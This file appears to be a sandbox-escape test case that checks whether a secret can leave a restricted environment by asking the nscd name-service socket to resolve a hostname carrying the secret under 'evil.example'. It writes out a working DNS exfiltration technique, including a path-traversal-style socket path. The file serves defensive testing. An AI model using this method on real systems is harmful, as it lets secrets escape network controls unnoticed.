# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: nscd is asked for a name that carries data by its own socket, without a lookup, and asks
#   the name server
# proof: word
# needs: resolver, own_run
import os
import socket
import struct
import threading

from attack import SECRET, attempt

PLACE = "/var/run/nscd/socket"
VERSION, BY_NAME = 2, 4
heard = []


def serve(listener):
    peer, _ = listener.accept()
    heard.append(peer.recv(4096))
    peer.close()


@attempt
def ask():
    os.makedirs(os.path.dirname(PLACE), exist_ok=True)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(PLACE)
    listener.listen(8)
    # The daemon is not the attacker's: a thread stands in for it.
    daemon = threading.Thread(target=serve, args=(listener,), daemon=True)
    daemon.start()
    name = SECRET.encode() + b".evil.example\0"
    os.chdir("/var")
    asked = socket.socket(socket.AF_UNIX)
    asked.connect("run/nscd/../nscd/socket")
    asked.send(struct.pack("=iii", VERSION, BY_NAME, len(name)) + name)
    daemon.join(3)
    return heard[0]
